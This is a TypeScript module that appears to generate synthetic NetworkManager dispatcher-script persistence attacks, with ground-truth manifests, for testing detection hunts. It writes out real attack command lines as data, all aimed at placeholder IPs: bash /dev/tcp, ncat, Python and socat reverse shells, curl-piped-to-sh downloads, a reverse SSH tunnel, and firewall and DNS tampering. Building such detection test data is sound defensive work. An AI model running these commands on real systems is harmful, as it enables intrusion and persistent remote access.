import type { AttackId, AttackManifestEntry, GroundTruthChild, GroundTruthWrite } from './attack-manifest';
import { organisationScripts, type Command, type DispatcherAction, type DispatcherScript, type Shebang } from './dispatcher-scripts';
import { commandLine } from './event-factory';
import type { Host } from './hosts';
import type { Burst } from './network-activity';
import { resolveInterpreter } from './operating-systems';
import { Random } from './random';
import { DAY_MS } from './schedule';
import { sedInPlace, vimEdit, writeDirectly, type WriteContext } from './write-recipes';

/** A script an attack adds to its host from `sinceMs` on (or that was there all along). */
export interface ActiveScript {
  readonly script: DispatcherScript;
  readonly sinceMs: number;
}

/** Everything an attack adds to its host: scripts, network changes that run them, and its writes. */
export interface AttackPlan {
  readonly manifest: AttackManifestEntry;
  readonly hostIndex: number;
  readonly day: number;
  readonly scripts: readonly ActiveScript[];
  /** A host script the attack rewrites: the host's own copy stops when the attack's starts. */
  readonly replaces?: string;
  /** Network changes right after the attack, so that its script runs on its night. */
  readonly bursts: readonly Burst[];
  /** The attack's file events (and any other events) on its day. */
  readonly writes: (w: WriteContext) => void;
}

export interface AttackContext {
  readonly seed: string | number;
  readonly hosts: readonly Host[];
  readonly day: number;
  readonly dayStartMs: number;
  readonly decoys: number;
  /** Indexes of hosts other attacks already use. */
  readonly used: Set<number>;
  /** A host index the caller insists on. */
  readonly hostIndex?: number;
}

const C2 = { panix: '203.0.113.66', dropper: '203.0.113.77', nc: '203.0.113.81', iptables: '203.0.113.90', python: '203.0.113.50', tunnel: '203.0.113.44', pyshell: '203.0.113.12', decoy: '203.0.113.23', socat: '203.0.113.70', dns: '203.0.113.53' } as const;
const D = '/etc/NetworkManager/dispatcher.d';
const sh: Shebang = { interpreter: '/bin/sh' };
const bash: Shebang = { interpreter: '/bin/bash' };
const cmd = (executable: string, ...args: string[]): Command => ({ executable, args });
/** Actions after which a script's body runs (a script that exits early on connectivity-change does not). */
const bodyRuns = (action: DispatcherAction) => action !== 'connectivity-change';

type Builder = (context: AttackContext, random: Random) => AttackPlan;

/** Builds the plan of one attack on its night, choosing a suitable host deterministically. */
export function planAttack(id: AttackId, context: AttackContext): AttackPlan {
  const random = new Random(context.seed, 'attack', id);
  const plan = BUILDERS[id](context, random);
  context.used.add(plan.hostIndex);
  return plan;
}

/**
 * The attack's host: a server whose events arrive on time, preferably of the wanted shape and family,
 * not used by another attack. Throws when the fleet is too small to hold it.
 */
function chooseHost(context: AttackContext, random: Random, want: { shape?: Host['shape']; family?: Host['os']['family']; role?: string; dhcp?: boolean; not?: string }): Host {
  if (context.hostIndex !== undefined) {
    const host = context.hosts[context.hostIndex];
    if (!host) throw new Error(`attack host index ${context.hostIndex} is outside the fleet of ${context.hosts.length} hosts`);
    return host;
  }
  const base = context.hosts.filter((h) => h.kind === 'server' && !context.used.has(h.index) && (want.role ? h.role === want.role : h.role !== 'vpn-gw') && h.role !== want.not);
  const tiers = [
    base.filter((h) => (want.shape === undefined || h.shape === want.shape) && (want.family === undefined || h.os.family === want.family) && (want.dhcp === undefined || h.usesDhcp === want.dhcp)),
    base.filter((h) => want.family === undefined || h.os.family === want.family),
    base,
  ];
  for (const tier of tiers) if (tier.length > 0) return random.pick(tier);
  throw new Error(`the fleet has no free server for an attack (${context.hosts.length} hosts): generate at least 40 hosts`);
}

interface Basics {
  readonly host: Host;
  readonly t0: number;
  readonly bursts: Burst[];
}

/** The attacker acts between 09:00 and 13:00 of the day's clock; the host's network changes twice after. */
function basics(context: AttackContext, random: Random, host: Host): Basics {
  const t0 = context.dayStartMs + random.int(7 * 60, 11 * 60) * 60_000 + random.int(0, 59_999);
  const bursts: Burst[] = [
    { atMs: t0 + random.int(60, 120) * 60_000 + random.int(0, 59_999), iface: host.primaryInterface, action: 'dhcp4-change' },
    { atMs: t0 + random.int(180, 300) * 60_000 + random.int(0, 59_999), iface: host.primaryInterface, action: 'up' },
  ];
  if (bursts.some((b) => b.atMs >= context.dayStartMs + DAY_MS)) throw new Error('attack bursts must fall on the attack day');
  return { host, t0, bursts };
}

/** The parent executable the sensor reports for a script's children. */
function reportedParent(host: Host, path: string, shebang: Shebang): string {
  if (shebang.interpreter === '/usr/bin/env') return resolveInterpreter(host.os, shebang.args?.[0] ?? 'sh');
  return host.shape === 'script' ? path : resolveInterpreter(host.os, shebang.interpreter);
}

function child(host: Host, path: string, shebang: Shebang, command: Command): GroundTruthChild {
  return { executable: command.executable, args: command.args, commandLine: commandLine(command.args), reportedParentExecutable: reportedParent(host, path, shebang) };
}

const write = (path: string, writer: string, action: GroundTruthWrite['action'], extra: Partial<GroundTruthWrite> = {}): GroundTruthWrite => ({
  path,
  writer,
  action,
  hasHash: action === 'modification',
  hasCommandLine: action !== 'rename',
  ...extra,
});

function manifest(context: AttackContext, id: AttackId, host: Host, t0: number, rest: Omit<AttackManifestEntry, 'id' | 'night' | 'firstEventAt' | 'host'>): AttackManifestEntry {
  return { id, night: context.day, firstEventAt: new Date(t0).toISOString(), host: { name: host.name, agentId: host.agentId, shape: host.shape }, ...rest };
}

const shebangText = (s: Shebang) => `#!${[s.interpreter, ...(s.args ?? [])].join(' ')}`;

const BUILDERS: Record<AttackId, Builder> = {
  /** Aegrah/PANIX `--network-manager --default`: a heredoc redirect, then `sed -i` swaps in the payload. */
  'panix-network-manager': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'script', family: 'debian', dhcp: true }));
    const path = `${D}/panix-dispatcher.sh`;
    const shebang: Shebang = { interpreter: '/bin/sh', args: ['-e'] };
    const payload = `bash -i >& /dev/tcp/${C2.panix}/4444 0>&1`;
    const nohup: Command = { ...cmd('/usr/bin/nohup', 'nohup', 'setsid', 'bash', '-c', payload), execs: { ...cmd('/usr/bin/setsid', 'setsid', 'bash', '-c', payload), execs: { ...cmd('/usr/bin/bash', 'bash', '-c', payload), children: [cmd('/usr/bin/bash', 'bash', '-i')] } } };
    const runParts = (action: DispatcherAction) =>
      action === 'up' || action === 'vpn-up' ? [cmd('/usr/bin/run-parts', 'run-parts', '/etc/network/if-up.d')] : action === 'down' || action === 'vpn-down' ? [cmd('/usr/bin/run-parts', 'run-parts', '/etc/network/if-post-down.d')] : [];
    const script: DispatcherScript = { path, shebang, run: (_iface, action) => (bodyRuns(action) ? [...runParts(action), nohup] : []) };
    const panix = ['/bin/bash', './panix.sh', '--network-manager', '--default', '--ip', C2.panix, '--port', '4444'];
    const escaped = `nohup setsid bash -c 'bash -i >\\& \\/dev\\/tcp\\/${C2.panix}\\/4444 0>\\&1' \\& disown`;
    return {
      manifest: manifest(context, 'panix-network-manager', host, t0, {
        description: 'PANIX NetworkManager persistence (--default): a heredoc redirected into panix-dispatcher.sh, sed -i replacing the placeholder with a reverse shell.',
        script: path,
        shebang: shebangText(shebang),
        writes: [write(path, '/usr/bin/bash', 'creation'), write(path, '/usr/bin/bash', 'modification'), write(path, '/usr/bin/sed', 'rename', { originalPath: `${D}/sedXXXXXX` })],
        children: [nohup, nohup.execs!, nohup.execs!.execs!].map((c) => child(host, path, shebang, { executable: c.executable, args: c.args })),
        severity: 'high',
        indicator: 'reverse shell to /dev/tcp',
        notes: ['nohup, setsid and bash -c exec in place: three images of one process, all with the script as parent.', "sed's temporary file sedXXXXXX is excluded by the rule; its rename onto the script is not."],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 2_000 }],
      bursts,
      writes: (w) => {
        const shell = w.factory.spawn('/usr/bin/bash', panix);
        const t = writeDirectly(w, t0, path, shell, `${path}@panix-template`);
        sedInPlace(w, t + 40, path, w.factory.spawn('/usr/bin/sed', ['sed', '-i', `s/__PAYLOAD_PLACEHOLDER__/${escaped}/`, path]), `${path}@panix-armed`);
      },
    };
  },

  /** A gateway's known 99-vpn-routes gets a download-and-run line from perl -pi. */
  'known-script-new-writer': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { role: 'vpn-gw' }));
    const known: DispatcherScript = organisationScripts.vpnRoutes;
    const curl = cmd('/usr/bin/curl', 'curl', '-fsS', `http://${C2.dropper}/k.sh`);
    const shell = cmd(resolveInterpreter(host.os, '/bin/sh'), 'sh');
    const script: DispatcherScript = { path: known.path, shebang: known.shebang, run: (iface, action, atMs) => (bodyRuns(action) ? [curl, shell, ...known.run(iface, action, atMs)] : known.run(iface, action, atMs)) };
    const perl = ['perl', '-i', '-pe', `print "curl -fsS http://${C2.dropper}/k.sh | sh\\n" if $. == 2`, known.path];
    return {
      manifest: manifest(context, 'known-script-new-writer', host, t0, {
        description: 'A script the fleet knows (99-vpn-routes, written by cp on the gateways) is edited by a writer never seen for it, perl -i, adding curl | sh.',
        script: known.path,
        shebang: shebangText(known.shebang),
        writes: [write(known.path, '/usr/bin/perl', 'creation'), write(known.path, '/usr/bin/perl', 'modification')],
        children: [child(host, known.path, known.shebang, curl), child(host, known.path, known.shebang, shell)],
        severity: 'high',
        indicator: 'download piped to a shell',
        notes: ['perl -i unlinks the original and creates a new file of the same name: creation, then modification.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      replaces: known.path,
      bursts,
      writes: (w) => void writeDirectly(w, t0, known.path, w.factory.spawn('/usr/bin/perl', perl), `${known.path}@perl-dropper`),
    };
  },

  /** A script without an extension (the seed query's blind spot), started through its interpreter. */
  'extensionless-script': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'interpreter', family: 'redhat', dhcp: true }));
    const path = `${D}/50-netcheck`;
    const ncat = cmd('/usr/bin/ncat', 'ncat', C2.nc, '443', '-e', '/bin/sh');
    const script: DispatcherScript = { path, shebang: sh, run: (_i, action) => (bodyRuns(action) ? [ncat] : []) };
    return {
      manifest: manifest(context, 'extensionless-script', host, t0, {
        description: 'An extensionless script copied into dispatcher.d that connects a shell back with ncat.',
        script: path,
        shebang: shebangText(sh),
        writes: [write(path, '/usr/bin/cp', 'creation'), write(path, '/usr/bin/cp', 'modification')],
        children: [child(host, path, sh, ncat)],
        severity: 'high',
        indicator: 'reverse shell (ncat -e)',
        notes: ['No file.extension: the seed query drops it (three-valued NOT).', 'On an interpreter-shaped host the children have /usr/bin/bash as parent.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      bursts,
      writes: (w) => void writeDirectly(w, t0, path, w.factory.spawn('/usr/bin/cp', ['cp', '/tmp/.nc', path]), `${path}@ncat`),
    };
  },

  /** A script in the /usr/lib tree (the seeds only look at /etc), fetched by curl -o. */
  'usr-lib-script': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'script', dhcp: true }));
    const path = '/usr/lib/NetworkManager/dispatcher.d/70-sysstat-net';
    const iptables = cmd('/usr/sbin/iptables', 'iptables', '-I', 'INPUT', '1', '-p', 'tcp', '--dport', '31337', '-j', 'ACCEPT');
    const script: DispatcherScript = { path, shebang: sh, run: (_i, action) => (action === 'up' || action === 'dhcp4-change' ? [iptables] : []) };
    const curl = ['curl', '-fsSL', '-o', path, `http://${C2.iptables}/s`];
    return {
      manifest: manifest(context, 'usr-lib-script', host, t0, {
        description: 'A script dropped in /usr/lib/NetworkManager/dispatcher.d by curl -o that opens a firewall port on every lease change.',
        script: path,
        shebang: shebangText(sh),
        writes: [write(path, '/usr/bin/curl', 'creation'), write(path, '/usr/bin/curl', 'modification')],
        children: [child(host, path, sh, iptables)],
        severity: 'medium',
        indicator: 'firewall opened for an inbound port',
        notes: ['The seed hunt and rule only watch /etc/NetworkManager/dispatcher.d.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      bursts,
      writes: (w) => void writeDirectly(w, t0, path, w.factory.spawn('/usr/bin/curl', curl), `${path}@iptables`),
    };
  },

  /** An old `#!/usr/bin/env python3` script, quiet for weeks, starts downloading a payload. */
  'env-python-predates-lookback': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { dhcp: true }));
    const path = `${D}/40-proxy-autoconf`;
    const shebang: Shebang = { interpreter: '/usr/bin/env', args: ['python3'] };
    const logger = cmd('/usr/bin/logger', 'logger', '-t', 'proxy-autoconf', 'refreshed');
    const curl = cmd('/usr/bin/curl', 'curl', '-fsSL', '-o', '/tmp/.pa.py', `http://${C2.python}/pa.py`);
    const stage = cmd(host.os.python, 'python3', '/tmp/.pa.py');
    const active = t0;
    const script: DispatcherScript = { path, shebang, run: (_i, action, atMs) => (action !== 'up' && action !== 'dhcp4-change' ? [] : atMs >= active ? [logger, curl, stage] : [logger]) };
    return {
      manifest: manifest(context, 'env-python-predates-lookback', host, t0, {
        description: 'A #!/usr/bin/env python3 script written before the lookback window, benign until its night, then fetching and running a second stage.',
        script: path,
        shebang: shebangText(shebang),
        writes: [],
        children: [child(host, path, shebang, curl), child(host, path, shebang, stage)],
        severity: 'high',
        indicator: 'download of a payload',
        notes: ['The file was written before the generated window: no write event exists.', 'env execs the interpreter, so in both shapes the children have the interpreter as parent executable.', 'Its logger child ran every day before: only curl and the second stage are new.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: -Infinity }],
      bursts,
      writes: () => {},
    };
  },

  /** The gateways' 99-vpn-routes path, same writer (cp), on a host that never had it. */
  'known-path-new-host': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'script', dhcp: true }));
    const known: DispatcherScript = organisationScripts.vpnRoutes;
    const ssh = cmd('/usr/bin/ssh', 'ssh', '-fN', '-o', 'StrictHostKeyChecking=no', '-R', '2222:localhost:22', `tunnel@${C2.tunnel}`);
    const script: DispatcherScript = { path: known.path, shebang: known.shebang, run: (iface, action, atMs) => [...known.run(iface, action, atMs), ...(action === 'up' || action === 'dhcp4-change' ? [ssh] : [])] };
    return {
      manifest: manifest(context, 'known-path-new-host', host, t0, {
        description: 'The path and writer the gateways are known for (99-vpn-routes by cp) appear on a new host, with new content that opens a reverse SSH tunnel.',
        script: known.path,
        shebang: shebangText(known.shebang),
        writes: [write(known.path, '/usr/bin/cp', 'creation'), write(known.path, '/usr/bin/cp', 'modification')],
        children: [child(host, known.path, known.shebang, ssh)],
        severity: 'high',
        indicator: 'reverse SSH tunnel',
        notes: ['(path, writer) is already in the baseline from the gateways: only the host and the content hash are new.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      bursts,
      writes: (w) => void writeDirectly(w, t0, known.path, w.factory.spawn('/usr/bin/cp', ['cp', '/var/tmp/.r', known.path]), `${known.path}@tunnel`),
    };
  },

  /** `01-ifupdown x.sh`: a known name plus a space and a suffix, breaking naive command-line splitting. */
  'space-suffixed-name': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'interpreter', family: 'debian', dhcp: true }));
    const path = `${D}/01-ifupdown x.sh`;
    const code = `import socket,os,pty;s=socket.socket();s.connect(("${C2.pyshell}",8080));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
    const python = cmd(host.os.python, 'python3', '-c', code);
    const script: DispatcherScript = { path, shebang: sh, run: (_i, action) => (bodyRuns(action) ? [python] : []) };
    return {
      manifest: manifest(context, 'space-suffixed-name', host, t0, {
        description: "A script named like the stock 01-ifupdown plus ' x.sh', written by tee, running a Python reverse shell.",
        script: path,
        shebang: shebangText(sh),
        writes: [write(path, '/usr/bin/tee', 'creation'), write(path, '/usr/bin/tee', 'modification')],
        children: [child(host, path, sh, python)],
        severity: 'high',
        indicator: 'reverse shell (python pty)',
        notes: ['Splitting the command line on spaces yields the stock 01-ifupdown: identify scripts from process.args, not by splitting.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      bursts,
      writes: (w) => void writeDirectly(w, t0, path, w.factory.spawn('/usr/bin/tee', ['tee', path]), `${path}@pty`),
    };
  },

  /** Many one-event rows, sorted before the real finding, to push it past the row limit. */
  'decoy-flood': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'script', dhcp: false }));
    const path = `${D}/05-link-watch`;
    const shellCommand = cmd('/usr/bin/bash', 'bash', '-c', `bash -i >& /dev/tcp/${C2.decoy}/9001 0>&1`);
    const decoyChildren = Array.from({ length: context.decoys }, () => cmd('/usr/bin/printf', 'printf', random.hex(8)));
    const firstRun = bursts[0]!.atMs;
    const script: DispatcherScript = {
      path,
      shebang: bash,
      // The first run, right after the real child, also starts the decoy children (each once).
      run: (_i, action, atMs) => (!bodyRuns(action) ? [] : atMs >= firstRun && atMs < firstRun + 600_000 ? [shellCommand, ...decoyChildren] : [shellCommand]),
    };
    const decoyNames = Array.from({ length: context.decoys }, () => `${D}/.nm-state-${random.hex(6)}`);
    return {
      manifest: manifest(context, 'decoy-flood', host, t0, {
        description: `A reverse-shell script hidden behind ${context.decoys} decoy writes and ${context.decoys} decoy children, each seen once and later than the real rows.`,
        script: path,
        shebang: shebangText(bash),
        writes: [write(path, '/usr/bin/cp', 'creation'), write(path, '/usr/bin/cp', 'modification')],
        children: [child(host, path, bash, shellCommand)],
        severity: 'high',
        indicator: 'reverse shell to /dev/tcp',
        decoys: { writes: context.decoys, children: context.decoys, writer: '/usr/bin/touch', childExecutable: '/usr/bin/printf' },
        notes: ['The real write has two events and the real child runs twice on its night; every decoy has one event and a later last_seen, so SORT event_count ASC, last_seen DESC puts all decoys first.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      bursts,
      writes: (w) => {
        writeDirectly(w, t0, path, w.factory.spawn('/usr/bin/cp', ['cp', '/tmp/lw', path]), `${path}@shell`);
        const touch = w.factory.spawn('/usr/bin/touch', ['touch', ...decoyNames.slice(0, 3), '…']);
        // After the real child's last run of the night: every decoy is later than every real row.
        const late = bursts[1]!.atMs + 600_000;
        decoyNames.forEach((decoy, i) => w.out.push(w.factory.file(late + i * 10, 'creation', decoy, touch)));
      },
    };
  },

  /** The writer itself runs from /dev/shm, and the script starts it again on every change. */
  'dev-shm-writer': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'script', dhcp: true }));
    const path = `${D}/02-dispatcher-sync`;
    const implant = '/dev/shm/.x/kworker';
    const beacon = cmd(implant, implant, '--beacon');
    const script: DispatcherScript = { path, shebang: sh, run: (_i, action) => (bodyRuns(action) ? [beacon] : []) };
    return {
      manifest: manifest(context, 'dev-shm-writer', host, t0, {
        description: 'An implant running from /dev/shm writes a dispatcher script that restarts the implant on every network change.',
        script: path,
        shebang: shebangText(sh),
        writes: [write(path, implant, 'creation'), write(path, implant, 'modification')],
        children: [child(host, path, sh, beacon)],
        severity: 'high',
        indicator: 'writer and child executable in /dev/shm',
        notes: [],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      bursts,
      writes: (w) => void writeDirectly(w, t0, path, w.factory.spawn(implant, [implant]), `${path}@implant`),
    };
  },

  /** `exec socat …`: the payload replaces the script's process, so nm-dispatcher is its parent. */
  'exec-in-place': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'script', dhcp: true }));
    const path = `${D}/60-wifi-powersave`;
    const socat: Command = { ...cmd('/usr/bin/socat', 'socat', `TCP:${C2.socat}:8443`, 'EXEC:/bin/bash,pty,stderr,setsid'), children: [cmd('/usr/bin/bash', '/bin/bash')] };
    const script: DispatcherScript = { path, shebang: bash, run: () => [], execsInPlace: (_i, action) => (bodyRuns(action) ? socat : undefined) };
    return {
      manifest: manifest(context, 'exec-in-place', host, t0, {
        description: 'A script written with vim whose only line is exec socat …: the payload replaces the script process.',
        script: path,
        shebang: shebangText(bash),
        writes: [write(path, host.os.vim, 'creation'), write(path, host.os.vim, 'modification')],
        children: [{ executable: socat.executable, args: socat.args, commandLine: commandLine(socat.args), reportedParentExecutable: host.os.nmDispatcher }],
        severity: 'high',
        indicator: 'reverse shell (socat exec)',
        notes: ['The payload keeps the script\'s pid; process.previous.executable names the script (or its interpreter).', "Its parent is nm-dispatcher: a hunt that attributes children by their parent script misses it.", 'vim also writes its .swp file (excluded by extension).'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 120_000 }],
      bursts,
      writes: (w) => void vimEdit(w, t0, path, w.factory.spawn(host.os.vim, ['vim', path], 'vim'), `${path}@socat`, false),
    };
  },

  /** `mv /tmp/.r dispatcher.d/…`: the only event in the folder is a rename, with no hash and no command line. */
  'rename-only-write': (context, random) => {
    const { host, t0, bursts } = basics(context, random, chooseHost(context, random, { shape: 'script', dhcp: true }));
    const path = `${D}/15-resolv-fix`;
    const staged = '/tmp/.r';
    const copy = cmd('/usr/bin/cp', 'cp', '/var/tmp/.resolv.conf', '/etc/resolv.conf');
    const script: DispatcherScript = { path, shebang: sh, run: (_i, action) => (action === 'up' || action === 'dhcp4-change' ? [copy] : []) };
    return {
      manifest: manifest(context, 'rename-only-write', host, t0, {
        description: 'A script staged in /tmp and moved into dispatcher.d with mv: one rename event; it overwrites resolv.conf with attacker DNS servers on every lease.',
        script: path,
        shebang: shebangText(sh),
        writes: [write(path, '/usr/bin/mv', 'rename', { originalPath: staged })],
        children: [child(host, path, sh, copy)],
        severity: 'medium',
        indicator: 'DNS settings overwritten',
        notes: ['Elastic Defend records renames without file.hash and without process.command_line.', 'The staging write in /tmp is outside the dispatcher folders.'],
      }),
      hostIndex: host.index,
      day: context.day,
      scripts: [{ script, sinceMs: t0 + 1_000 }],
      bursts,
      writes: (w) => {
        const t = writeDirectly(w, t0, staged, w.factory.spawn('/usr/bin/curl', ['curl', '-so', staged, `http://${C2.dns}/r`]), `${path}@resolv`);
        w.out.push(w.factory.file(t + 20_000, 'rename', path, w.factory.spawn('/usr/bin/mv', ['mv', staged, path]), { originalPath: staged }));
      },
    };
  },
};

